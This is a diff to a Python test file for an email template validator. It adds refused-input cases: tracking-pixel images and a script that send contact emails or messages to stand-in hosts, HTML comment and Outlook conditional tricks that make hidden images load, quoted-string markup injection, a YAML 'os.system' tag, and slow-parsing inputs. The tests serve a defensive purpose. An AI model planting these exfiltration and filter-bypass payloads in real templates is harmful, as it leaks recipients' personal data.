@@ -10,6 +10,7 @@ passes still renders within bounds of output, time and memory.
 
 from __future__ import annotations
 
+import contextlib
 import time
 import tracemalloc
 from collections.abc import Callable
@@ -118,6 +119,11 @@ def test_ordinary_sizes_and_two_loops_are_accepted(source: str) -> None:
         "<style>p { background: url(https://x.example/{{ contact.email }}) }</style>",
         '<img {% if message %}src="https://x.example/a.gif"{% endif %}>',
         '<meta http-equiv="refresh" content="0;url=https://x.example/{{ message }}">',
+        # Spelled as a browser still reads them.
+        '<img alt="x"src="https://x.example/{{ message }}">',
+        "<IMG/SRC = 'https://x.example/{{ message }}'>",
+        '<img alt="a > b" src=https://x.example/{{ message }}>',
+        "<script>new Image().src = 'https://x.example/{{ message }}'</script>",
     ],
 )
 def test_a_value_in_a_loading_or_linking_attribute_is_refused(html: str) -> None:
@@ -132,6 +138,105 @@ def test_values_in_the_html_text_and_fixed_links_are_accepted() -> None:
         '<p><a href="https://example.com/contact">Write to us</a> about {{ message }}</p>'
     )
     assert template_problem(html, html=True) is None
+
+
+PIXEL = '<img src="https://t.example/p.gif?e={{ contact.email|urlencode }}">'
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        # A browser ends the comment at `<!-->` and at `--!>`: the image loads.
+        "<!-->" + PIXEL + "<!-- -->",
+        "<!-- a --!>" + PIXEL + "<!-- -->",
+        # Outlook reads what is inside and loads the VML image.
+        '<!--[if mso]><v:rect><v:fill type="frame" '
+        'src="https://t.example/p.gif?e={{ contact.email|urlencode }}"/></v:rect><![endif]-->',
+        "<!-- " + PIXEL + " -->",
+        "<style><!-- p { color: red } --></style>",
+        "<![CDATA[" + PIXEL + "]]>",
+        "<?x " + PIXEL + " ?>",
+        "</ " + PIXEL + ">",
+        '<!DOCTYPE html "><img src=https://t.example/p.gif?e={{ contact.email }}>">',
+        "<!ELEMENT " + PIXEL + ">",
+    ],
+)
+def test_html_comments_and_declarations_are_refused(html: str) -> None:
+    problem = template_problem("<p>Hello</p>\n<p>{{ contact.name }}</p>\n" + html, html=True)
+    assert problem is not None, html
+    assert problem.message.startswith("an HTML comment or declaration"), problem
+    assert problem.line == 3, problem
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        # Django never escapes a quoted string: it writes the tag, a value fills it.
+        "{{ '<img src=\"https://t.example/p.gif?e=' }}{{ contact.email|urlencode }}{{ '\">' }}",
+        "{% firstof '<img src=\"https://t.example/p.gif?e=' %}{{ contact.email }}\">",
+        "{{ fields.list|join:'<img src=https://t.example/p.gif?e=' }}",
+    ],
+)
+def test_markup_in_a_quoted_string_is_refused(html: str) -> None:
+    problem = template_problem("<p>Hello</p>\n" + html, html=True)
+    assert problem is not None, html
+    assert problem.message.startswith("markup in a quoted string"), problem
+    assert problem.line == 2
+
+
+EMAIL = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" \
+"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
+<html><head><meta charset="utf-8"><style>p { margin: 0 }</style></head>
+<body>{# the greeting staff agreed on #}
+{% comment %}<!-- the old footer -->{% endcomment %}
+<p style="color: #333">Hello {{ contact.first_name|default:'there' }},</p>
+<p>You wrote: {{ message|linebreaksbr }}</p>
+<img src="https://example.com/logo.png" alt="{{ form }}">
+<p><a href="https://example.com/contact?from=email&amp;x=1">Write to us</a></p>
+</body></html>
+"""
+
+
+def test_an_ordinary_email_with_a_doctype_is_accepted_and_renders() -> None:
+    assert template_problem(EMAIL, html=True) is None
+    assert template_problem("<!doctype html>\n<p>{{ message }}</p>", html=True) is None
+    values = template_values(
+        {"contact": {"first_name": "Ann"}, "message": "<b>a</b>\nb", "form": '"x"'}
+    )
+    rendered = template_render(EMAIL, values, html=True)
+    assert "Hello Ann," in rendered
+    assert "You wrote: &lt;b&gt;a&lt;/b&gt;<br>b" in rendered
+    assert 'alt="&quot;x&quot;"' in rendered
+    assert "<!--" not in rendered and "staff agreed" not in rendered
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        # Accepted by the check of the template: the quoted string ends the alt.
+        '<img alt="{{ \'" src="https://t.example/p.gif?e=\' }}{{ contact.email|urlencode }}">',
+        # Refused by it, as if stored before the rule.
+        "<!-->" + PIXEL + "<!-- -->",
+        PIXEL,
+        "{{ '<img src=\"https://t.example/p.gif?e=' }}{{ contact.email|urlencode }}{{ '\">' }}",
+        "<p>{{ '<!--' }}</p>",
+    ],
+)
+def test_the_rendered_email_is_held_to_the_rule(html: str) -> None:
+    values = template_values({"contact": {"email": "ada@example.org"}})
+    with pytest.raises(TemplateRenderError, match=r"not written in the template|comment"):
+        template_render("<p>Hello</p>" + html, values, html=True)
+
+
+@pytest.mark.parametrize("run", ['<a x="y" ', "<a x='", "<a<a", "<style>"])
+def test_the_html_checks_take_time_in_proportion_to_the_html(run: str) -> None:
+    # Unclosed tags, each read to the end of the text: quadratic in Python's HTMLParser.
+    started = time.monotonic()
+    assert template_problem(run * 5000, html=True) is None
+    values = template_values({"message": "x" * 50_000})
+    with contextlib.suppress(TemplateRenderError):  # a `<style>` text not the template's
+        template_render("{% for c in message %}" + run + "{% endfor %}", values, html=True)
+    assert time.monotonic() - started < 2
 
 
 def test_the_html_rule_names_the_files_line() -> None:
@@ -348,11 +453,25 @@ def _block(task: str = "", html: str = "") -> str:
         (_block(task="{{ message|ljust:300000000 }}"), "1000"),
         (_block(task=LOOPS_7), "loops"),
         (_block(task=withs(5)), "with blocks"),
+        (
+            _block(html='<!--><img src="https://c.example/p.gif?e={{ contact.email }}"><!-- -->'),
+            "comment",
+        ),
         (ALIAS_BOMB, "alias"),
         ("sources: !!python/name:os.system x\n", "tag"),
         ("sources: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
     ],
-    ids=["img-src", "a-href", "ljust", "loops", "withs", "alias-bomb", "python-tag", "brackets"],
+    ids=[
+        "img-src",
+        "a-href",
+        "ljust",
+        "loops",
+        "withs",
+        "html-comment",
+        "alias-bomb",
+        "python-tag",
+        "brackets",
+    ],
 )
 def test_config_apply_dry_run_refuses_each_within_seconds(
     website: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, said: str
